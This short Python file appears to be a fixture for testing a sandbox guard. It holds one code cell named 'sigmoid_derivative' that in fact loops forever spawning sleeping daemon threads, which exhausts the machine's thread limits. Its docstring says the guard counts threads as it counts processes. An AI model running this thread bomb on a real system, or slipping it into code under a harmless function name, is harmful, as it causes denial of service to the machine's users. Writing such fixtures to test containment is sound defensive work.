"""Starts threads until the machine has no more numbers for them.

The guard counts threads as it counts processes.
"""

CELLS = {
    "sigmoid_derivative": """
import threading, time
def sigmoid_derivative(z):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""
}
